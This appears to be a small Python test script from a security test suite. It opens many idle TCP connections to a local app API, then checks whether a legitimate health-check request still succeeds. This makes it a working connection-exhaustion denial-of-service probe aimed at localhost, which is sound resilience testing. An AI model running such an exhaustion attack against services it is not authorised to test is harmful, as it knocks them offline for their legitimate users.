# Opens N idle TCP connections to the app API (no TLS ClientHello, no request), then checks a legitimate client.
# Usage: python3 03_connection_exhaustion.py PORT N
# Opens N idle TCP connections (sending nothing), then checks whether a legitimate /healthz still gets an answer.
import socket, sys, time, resource
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]; resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
port, n = int(sys.argv[1]), int(sys.argv[2])
held = []
for i in range(n):
    try:
        held.append(socket.create_connection(("127.0.0.1", port), timeout=2))
    except Exception as e:
        print("connect %d failed: %r" % (i, e)); break
print("holding", len(held), "idle connections")
time.sleep(1)
t = time.time()
try:
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    print("legit client got:", repr(s.recv(200)[:40]), "after %.1fs" % (time.time() - t))
except Exception as e:
    print("legit client failed after %.1fs: %r" % (time.time() - t, e))
